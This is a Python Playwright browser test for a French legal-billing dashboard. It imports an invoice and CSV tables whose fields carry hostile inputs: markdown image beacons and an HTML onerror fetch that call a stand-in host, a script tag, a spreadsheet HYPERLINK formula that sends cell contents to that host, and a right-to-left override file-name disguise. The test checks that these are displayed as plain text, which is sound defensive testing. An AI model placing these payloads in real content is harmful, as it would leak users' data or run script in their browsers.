"""From files dropped by a person, with hostile texts, to a figure, and from the figure back to what the firm wrote."""

from pathlib import Path

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.conftest import Visit
from tests.browser.screen import cells, choose_row, figures, go_to, settled
from tests.dashboard import Opened
from tests.hostile.builder import fee, invoice, ledes

pytestmark = pytest.mark.browser
BEACON = "![x](http://phone-home.invalid/{}.png)"
NARRATIVES = (
    BEACON.format("text") + " [ici](http://phone-home.invalid/) http://phone-home.invalid/bare www.phone-home.invalid",
    "<img src=http://phone-home.invalid/html.png onerror=\"fetch('http://phone-home.invalid/js')\"><script>x()</script>",
    '=HYPERLINK("http://phone-home.invalid/?q="&A1,"facture")',
    "Analyse de \u202egnp.erutcaf\u202c, $\\LaTeX$ :material/bolt: :red[rouge] `code` **gras**",
)
BILLS = invoice(
    *(fee("1", "100.00", "100.00", text=text) for text in NARRATIVES),
    date="20260715",
    number="A1" + BEACON.format("number"),
    firm="F1",
    matter="M1",
    name=BEACON.format("keeper"),
)
TABLES = {
    "matters.csv": "matter_id;name;matter_type;entity\n"
    f"M1;Grève {BEACON.format('matter')};Social {BEACON.format('type')};{BEACON.format('entity')}\n",
    "sous-dossier/firms.csv": f"firm_id;name;kind\nF1;<b>Alpha</b> {BEACON.format('firm')};law_firm\n",
}


@pytest.fixture
def bills(tmp_path: Path) -> Path:
    """An invoice whose texts try to be something else, in a file whose name does too."""
    file = tmp_path / "![x](y) $x$ =cmd.txt"
    file.write_text(ledes(BILLS), encoding="utf-8")
    return file


@pytest.fixture
def tables(tmp_path: Path) -> Path:
    """A folder with a table, and one in a folder inside it."""
    folder = tmp_path / "tables"
    for name, text in TABLES.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def dropped(page: Page, label: str) -> Locator:
    return page.get_by_test_id("stFileUploader").filter(has_text=label).locator("input[type=file]")


def test_from_dropped_files_to_a_figure_to_what_the_firm_wrote_and_undone(
    on_nothing: Opened, visit: Visit, bills: Path, tables: Path
) -> None:
    page = visit("fr-FR")
    page.goto(on_nothing.address())
    settled(page)
    page.get_by_role("link", name="Importer des fichiers").click()
    expect(page.get_by_role("heading", level=1, name="Importer")).to_be_visible()
    settled(page)
    imports(page, bills, tables)
    go_to(page, "Pilotage", "Coûts")
    assert set(figures(page, 1).values()) == {"400,00\u00a0€"}
    go_to(page, "Pilotage", "Vue d'ensemble")
    assert figures(page, 6)["Dépense"] == "400,00\u00a0€"
    traces_back(page, bills.name)
    undoes(page)


def imports(page: Page, bills: Path, tables: Path) -> None:
    """Drop a file and a folder, and read the report."""
    dropped(page, "Des fichiers").set_input_files(bills)
    expect(page.get_by_test_id("stFileUploader").filter(has_text="Des fichiers")).to_contain_text("1.")
    dropped(page, "Ou un dossier entier").set_input_files(tables)
    expect(page.get_by_text("firms.csv")).to_be_visible()
    settled(page)
    page.get_by_role("button", name="Importer", exact=True).click()
    report = page.get_by_test_id("stAlert").first
    expect(report).to_contain_text("3\u00a0fichiers\u00a0:")
    expect(report).to_contain_text("Import n°\u00a01\u00a0: 1\u00a0facture, 6\u00a0lignes.")
    settled(page)


def traces_back(page: Page, file: str) -> None:
    """Open the figure, choose its invoice, then each line: the text received is shown as text, to the letter."""
    page.get_by_role("button", name="Comment ce chiffre est fait").first.click()
    explained = page.get_by_role("dialog")
    expect(explained.get_by_test_id("stMetricValue").first).to_have_text("400,00\u00a0€")
    explained.get_by_role("tab", name="Ce qui est compté").click()
    tables = explained.get_by_test_id("stDataFrame")
    expect(tables).to_have_count(1)
    header, only = cells(tables.first)
    assert only[header.index("Cabinet")] == f"<b>Alpha</b> {BEACON.format('firm')}"
    assert BEACON.format("number") in only[header.index("N° de facture")]

    choose_row(page, tables.first, 0)
    expect(tables).to_have_count(2)
    for place, narrative in enumerate(NARRATIVES):
        choose_row(page, tables.nth(1), place)
        received = explained.get_by_test_id("stCode")
        expect(received).to_contain_text(narrative)
        expect(explained.get_by_test_id("stText")).to_have_text(f"{file} · ligne {place + 3}")
    explained.get_by_role("button", name="Close").click()
    expect(explained).to_have_count(0)


def undoes(page: Page) -> None:
    """Take the import back from its history; the first screen comes back."""
    go_to(page, "Données", "Importer")
    history = page.get_by_test_id("stDataFrame").filter(has=page.locator("th", has_text="Importé le"))
    choose_row(page, history, 0)
    page.get_by_role("button", name="Annuler l'import n°\u00a01…").click()
    page.get_by_role("button", name="Annuler cet import").click()
    expect(page.get_by_text("Import n°\u00a01 annulé.")).to_be_visible()
    settled(page)
    go_to(page, "Pilotage", "Vue d'ensemble")
    expect(page.get_by_text("Il n'y a pas encore de données.")).to_be_visible()
    expect(page.get_by_role("button", name="Charger la démonstration")).to_be_visible()
    expect(page.get_by_test_id("stMetric")).to_have_count(0)
